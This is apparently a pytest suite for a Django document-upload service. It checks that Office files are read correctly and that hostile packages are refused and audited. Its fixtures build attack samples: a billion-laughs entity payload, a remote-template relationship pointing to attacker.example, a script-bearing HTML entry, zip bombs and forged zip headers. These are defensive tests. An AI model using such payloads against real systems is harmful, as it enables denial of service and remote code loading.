"""Office files: DOCX, XLSX and PPTX accepted by content and read for real (text
with boxes, embedded images as pages); macro-enabled, encrypted, bomb-like, entity-laden,
externally linked and polyglot packages refused with their own code, audited, nothing stored.
Every document here is generated (python-docx, openpyxl, python-pptx, zipfile)."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from PIL import Image

from assets import content, rejections
from assets.documents.office import PAGE_HEIGHT, PAGE_WIDTH, office_document_text
from assets.documents.pages import TextSource
from assets.models import Asset
from assets.reading import asset_open_reader, asset_page_images, asset_thumbnail_png
from assets.rejections import AssetRejected
from compliance.events import EventType, Outcome
from compliance.models import AuditEntry
from departments.tenancy import all_departments
from tests.assets.conftest import stored_files

pytestmark = pytest.mark.django_db

RED = (200, 30, 30)
AMOUNT_LINE = "合同金额 ¥1,234.56 (contract total)"


def png(size=(64, 48), color=RED) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, "PNG")
    return buffer.getvalue()


def docx_bytes(*, image: bool = True) -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph("Service agreement")
    document.add_paragraph(AMOUNT_LINE)
    table = document.add_table(rows=2, cols=2)
    for (row, column), text in {(0, 0): "Item", (0, 1): "Amount", (1, 0): "Widget", (1, 1): "42"}.items():
        table.cell(row, column).text = text
    document.add_paragraph("Signed after the table")
    if image:
        document.add_picture(io.BytesIO(png()))
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Invoices"
    sheet.append(["Number", "Total"])
    sheet.append(["INV-7", 1234.56])
    workbook.create_sheet("Notes").append(["paid 2024-01-05"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def pptx_bytes() -> bytes:
    import pptx
    from pptx.util import Inches

    presentation = pptx.Presentation()
    first = presentation.slides.add_slide(presentation.slide_layouts[1])
    first.shapes.title.text = "Quarterly review"
    first.placeholders[1].text = "Revenue up 12%"
    second = presentation.slides.add_slide(presentation.slide_layouts[5])
    second.shapes.title.text = "Figures"
    table = second.shapes.add_table(2, 2, Inches(1), Inches(2), Inches(4), Inches(1)).table
    table.cell(0, 0).text = "Region"
    table.cell(0, 1).text = "North"
    second.shapes.add_picture(io.BytesIO(png()), Inches(1), Inches(4))
    buffer = io.BytesIO()
    presentation.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """The package with some entries replaced or added (deflated, like Office writes them)."""
    replace, add = replace or {}, add or {}
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, body in add.items():
            target.writestr(name, body)
    return output.getvalue()


def entry(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def asset_count() -> int:
    with all_departments(reason="test"):
        return Asset.objects.count()


def assert_refused(upload, asset_storage, data: bytes, name: str, code: str, status: int = 400) -> AssetRejected:
    with pytest.raises(AssetRejected) as refused:
        upload(data, name)
    assert (refused.value.code, refused.value.status) == (code, status), refused.value.message
    assert asset_count() == 0 and stored_files(asset_storage) == []
    audit = AuditEntry.objects.order_by("-sequence").first()
    assert (audit.event_type, audit.outcome, audit.details["reason"]) == (
        EventType.ASSET_UPLOAD,
        Outcome.FAILURE,
        code,
    )
    return refused.value


# --- accepted and read ------------------------------------------------------------------------


def test_a_docx_is_stored_as_docx_and_read_in_order_with_boxes_and_its_image_as_a_page(upload):
    asset = upload(docx_bytes(), "contract.docx")
    assert asset.content_type == content.DOCX.mime
    assert (asset.page_count, asset.width, asset.height) == (2, PAGE_WIDTH, PAGE_HEIGHT)

    with asset_open_reader(asset) as reader:
        document = office_document_text(reader)
    first = document.page(1)
    assert first.source is TextSource.OFFICE and (first.width, first.height) == (PAGE_WIDTH, PAGE_HEIGHT)
    texts = [line.text for line in first.lines]
    assert texts == ["Service agreement", AMOUNT_LINE, "Item | Amount", "Widget | 42", "Signed after the table"]
    for line in first.lines:
        x0, y0, x1, y1 = line.box
        assert 0 <= x0 < x1 <= PAGE_WIDTH and 0 <= y0 < y1 <= PAGE_HEIGHT
    tops = [line.box[1] for line in first.lines]
    assert tops == sorted(tops) and len(set(tops)) == len(tops)
    assert document.page(2).source is TextSource.NONE and document.page(2).lines == ()

    pages = asset_page_images(asset)
    assert [page.size for page in pages] == [(PAGE_WIDTH, PAGE_HEIGHT), (64, 48)]
    assert pages[1].getpixel((10, 10)) == RED
    # The rendered text is really where its box says: dark pixels inside the amount's box,
    # none in the empty band below the last line.
    x0, y0, x1, y1 = (round(value) for value in first.lines[1].box)
    inside = pages[0].crop((x0, y0, x1, y1)).convert("L")
    assert inside.getextrema()[0] < 100
    below = pages[0].crop((0, round(first.lines[-1].box[3]) + 20, PAGE_WIDTH, PAGE_HEIGHT)).convert("L")
    assert below.getextrema() == (255, 255)
    assert asset_thumbnail_png(asset).startswith(b"\x89PNG")


def test_chosen_pages_alone_are_rendered_and_a_page_beyond_the_document_is_refused(upload):
    from assets.reading import AssetUnreadable, asset_document_pages

    asset = upload(docx_bytes(), "contract.docx")
    picture, text = asset_document_pages(asset, [2, 1], max_side=800)
    assert picture.size == (64, 48) and picture.getpixel((3, 3)) == RED
    assert max(text.size) == 800
    with pytest.raises(AssetUnreadable) as unreadable:
        asset_document_pages(asset, [3])
    assert unreadable.value.page == 3
    asset.refresh_from_db()
    assert asset.unusable_pages == []


def test_an_xlsx_is_read_sheet_by_sheet_as_rows(upload):
    asset = upload(xlsx_bytes(), "ledger.xlsx")
    assert (asset.content_type, asset.page_count) == (content.XLSX.mime, 1)
    with asset_open_reader(asset) as reader:
        texts = [line.text for line in office_document_text(reader).page(1).lines]
    assert texts == ["[Invoices]", "Number | Total", "INV-7 | 1234.56", "[Notes]", "paid 2024-01-05"]


def test_a_pptx_is_read_slide_by_slide_with_its_table_and_picture(upload):
    asset = upload(pptx_bytes(), "review.pptx")
    assert (asset.content_type, asset.page_count) == (content.PPTX.mime, 2)
    with asset_open_reader(asset) as reader:
        document = office_document_text(reader)
    text = document.page(1).text
    for expected in ("[1]", "Quarterly review", "Revenue up 12%", "[2]", "Figures", "Region | North"):
        assert expected in text
    assert asset_page_images(asset, max_pages=4)[1].getpixel((5, 5)) == RED


def test_the_type_is_decided_by_content_and_downloads_keep_their_headers(client, upload, personas):
    asset = upload(docx_bytes(image=False), "minutes.pdf")
    assert asset.content_type == content.DOCX.mime
    client.force_login(personas.member)
    response = client.get(reverse("assets:download", args=[personas.department_a.slug, asset.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == content.DOCX.mime
    assert 'filename="minutes.pdf.docx"' in response["Content-Disposition"]
    assert response["Content-Disposition"].startswith("attachment; ")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]


def test_a_long_document_is_laid_out_on_several_pages_and_refused_beyond_the_page_limit(upload, settings):
    import docx

    document = docx.Document()
    for number in range(120):
        document.add_paragraph(f"Clause {number}: the supplier delivers the goods on time.")
    buffer = io.BytesIO()
    document.save(buffer)
    asset = upload(buffer.getvalue(), "long.docx")
    assert asset.page_count == 3  # 120 lines at 44 a page
    settings.MAX_PDF_PAGES = 2
    with pytest.raises(AssetRejected) as refused:
        upload(buffer.getvalue(), "long-again.docx")
    assert (refused.value.code, refused.value.status) == ("too_many_pages", 413)
    assert refused.value.message == rejections.OFFICE_TOO_LONG.format(limit=2)


# --- refused ----------------------------------------------------------------------------------


def test_a_huge_paragraph_without_spaces_is_refused_quickly(upload, asset_storage, settings):
    import random
    import string
    import time

    import docx

    document = docx.Document()
    letters = random.Random(7).choices(string.ascii_letters, k=2_000_000)
    document.add_paragraph("".join(letters))  # two million characters, one word, incompressible
    buffer = io.BytesIO()
    document.save(buffer)
    began = time.monotonic()
    assert_refused(upload, asset_storage, buffer.getvalue(), "word.docx", "too_many_pages", 413)
    assert time.monotonic() - began < 30


def test_a_sparse_sheet_that_would_walk_billions_of_empty_cells_is_refused_quickly(upload, asset_storage):
    import time

    import openpyxl

    workbook = openpyxl.Workbook()
    for row in range(1, 2001):  # a cell in the first and in the last column of 2000 rows
        workbook.active.cell(row=row, column=1, value="x")
        workbook.active.cell(row=row, column=16384, value="y")
    buffer = io.BytesIO()
    workbook.save(buffer)
    began = time.monotonic()
    assert_refused(upload, asset_storage, buffer.getvalue(), "sparse.xlsx", "too_many_pages", 413)
    assert time.monotonic() - began < 30  # 32 million positions would take minutes


def test_a_row_numbered_in_the_billions_is_refused(upload, asset_storage):
    original = xlsx_bytes()
    sheet = entry(original, "xl/worksheets/sheet1.xml")
    far = b'<row r="2000000000"><c r="A2000000000" t="inlineStr"><is><t>far</t></is></c></row></sheetData>'
    data = rezip(original, replace={"xl/worksheets/sheet1.xml": sheet.replace(b"</sheetData>", far)})
    assert_refused(upload, asset_storage, data, "far.xlsx", "too_many_pages", 413)


def test_a_vba_project_anywhere_is_refused(upload, asset_storage):
    data = rezip(docx_bytes(), add={"word/vbaProject.bin": b"\x00" * 64})
    refusal = assert_refused(upload, asset_storage, data, "letter.docx", "office_macros")
    assert refusal.message == str(rejections.OFFICE_MACROS)


def test_a_macro_enabled_content_type_is_refused(upload, asset_storage):
    original = docx_bytes()
    types = entry(original, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert b"macroEnabled" in types
    assert_refused(
        upload, asset_storage, rezip(original, replace={"[Content_Types].xml": types}), "a.docx", "office_macros"
    )


def test_an_activex_part_is_refused(upload, asset_storage):
    data = rezip(xlsx_bytes(), add={"xl/activeX/activeX1.xml": b"<ax/>"})
    assert_refused(upload, asset_storage, data, "sheet.xlsx", "office_macros")


def test_a_high_ratio_entry_is_refused_as_a_zip_bomb(upload, asset_storage):
    data = rezip(docx_bytes(), add={"docProps/padding.txt": b"\x00" * (8 * 1024 * 1024)})
    assert len(data) < 5 * 1024 * 1024 // 10  # small on the wire, 8 MiB inflated
    assert_refused(upload, asset_storage, data, "bomb.docx", "office_archive_limit", 413)


def test_sizes_in_the_header_are_not_trusted(upload, asset_storage):
    """The central directory claims a tiny entry; decompressing it yields more: refused."""
    data = bytearray(rezip(docx_bytes(image=False), add={"docProps/extra.txt": b"A" * 200_000}))
    directory = data.rfind(b"PK\x01\x02", 0, data.rfind(b"docProps/extra.txt"))
    data[directory + 24 : directory + 28] = (100).to_bytes(4, "little")  # uncompressed size
    with pytest.raises(AssetRejected) as refused:
        upload(bytes(data), "liar.docx")
    assert refused.value.code in ("unreadable_office", "ambiguous")
    assert asset_count() == 0 and stored_files(asset_storage) == []


def test_too_many_entries_are_refused(upload, asset_storage, settings):
    settings.OFFICE_MAX_ENTRIES = 40
    data = rezip(docx_bytes(image=False), add={f"word/extra/part{number}.xml": b"<a/>" for number in range(40)})
    assert_refused(upload, asset_storage, data, "many.docx", "office_archive_limit", 413)


def test_two_entries_with_the_same_name_are_refused(upload, asset_storage):
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate it is asked to write
        data = rezip(docx_bytes(image=False), add={"word/document.xml": b"<w:document/>"})
    assert_refused(upload, asset_storage, data, "twice.docx", "ambiguous")


def test_xml_with_a_doctype_or_entities_is_refused(upload, asset_storage):
    original = docx_bytes(image=False)
    body = entry(original, "word/document.xml")
    declaration = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    laughs = b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>\n'
    hostile = declaration + laughs + body.split(b"?>", 1)[1]
    data = rezip(original, replace={"word/document.xml": hostile})
    assert_refused(upload, asset_storage, data, "lol.docx", "office_unsafe_xml")


def test_an_external_relationship_is_refused_and_a_hyperlink_is_not(upload, asset_storage):
    original = docx_bytes(image=False)
    rels = entry(original, "word/_rels/document.xml.rels")
    template = (
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
    )
    hostile = rels.replace(b"</Relationships>", template + b"</Relationships>")
    data = rezip(original, replace={"word/_rels/document.xml.rels": hostile})
    assert_refused(upload, asset_storage, data, "linked.docx", "office_external_relationship")

    link = template.replace(b"attachedTemplate", b"hyperlink").replace(b"t.dotm", b"page")
    linked = rezip(
        original,
        replace={"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", link + b"</Relationships>")},
    )
    assert upload(linked, "hyperlink.docx").content_type == content.DOCX.mime


def test_an_encrypted_office_file_is_refused(upload, asset_storage):
    """Password-protected OOXML is a Compound File Binary container (EncryptionInfo stream)."""
    cfb = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "EncryptionInfo".encode("utf-16-le") + b"\x00" * 4000
    assert_refused(upload, asset_storage, cfb, "secret.docx", "office_encrypted")


def test_a_plain_zip_renamed_is_refused(upload, asset_storage):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("image.png", png())
    assert_refused(upload, asset_storage, buffer.getvalue(), "image.png", "unsupported_type")


def test_a_jpeg_zip_polyglot_is_still_refused(upload, asset_storage):
    image = io.BytesIO()
    Image.new("RGB", (32, 32), RED).save(image, "JPEG")
    assert_refused(upload, asset_storage, image.getvalue() + docx_bytes(image=False), "photo.jpg", "ambiguous")


def test_markup_at_the_head_of_an_office_file_is_refused(upload, asset_storage):
    """An uncompressed page as the first entry: the head a browser would sniff is HTML."""
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_bytes(image=False))) as source, zipfile.ZipFile(output, "w") as target:
        target.writestr("a.html", b"<html><script>alert(1)</script></html>", zipfile.ZIP_STORED)
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename), zipfile.ZIP_DEFLATED)
    assert_refused(upload, asset_storage, output.getvalue(), "page.docx", "ambiguous")


@pytest.mark.parametrize("keep", [0.5, 0.98])
def test_a_truncated_office_file_is_refused(upload, asset_storage, keep):
    data = docx_bytes(image=False)
    assert_refused(upload, asset_storage, data[: int(len(data) * keep)], "cut.docx", "unreadable_office")


def test_bytes_appended_after_the_archive_are_refused(upload, asset_storage):
    data = docx_bytes(image=False) + b"%PDF-1.7 trailing document"
    assert_refused(upload, asset_storage, data, "tail.docx", "ambiguous")


def test_a_damaged_embedded_image_refuses_the_document(upload, asset_storage):
    original = docx_bytes()
    name = next(name for name in zipfile.ZipFile(io.BytesIO(original)).namelist() if name.startswith("word/media/"))
    cut = entry(original, name)[:-30]
    assert_refused(upload, asset_storage, rezip(original, replace={name: cut}), "cut.docx", "unreadable_image")


def test_an_office_refusal_is_answered_by_the_portal_with_its_code(client, personas, asset_storage):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(personas.member)
    data = rezip(docx_bytes(image=False), add={"word/vbaProject.bin": b"\x00"})
    response = client.post(
        reverse("assets:upload", args=[personas.department_a.slug]),
        {"file": SimpleUploadedFile("m.docx", data, "application/octet-stream")},
        HTTP_ACCEPT="application/json",
    )
    assert response.status_code == 400 and response.json()["code"] == "office_macros"
    assert asset_count() == 0


def test_an_office_file_is_never_taken_inline_by_the_model_api(personas):
    import base64

    from inference.openai.images import ImageRefused, image_source_resolve

    url = "data:image/png;base64," + base64.b64encode(docx_bytes(image=False)).decode()
    with pytest.raises(ImageRefused) as refused:
        image_source_resolve(url, department=personas.department_a, actor=personas.member)
    assert refused.value.code == "invalid_image" and "unsupported_type" in str(refused.value)
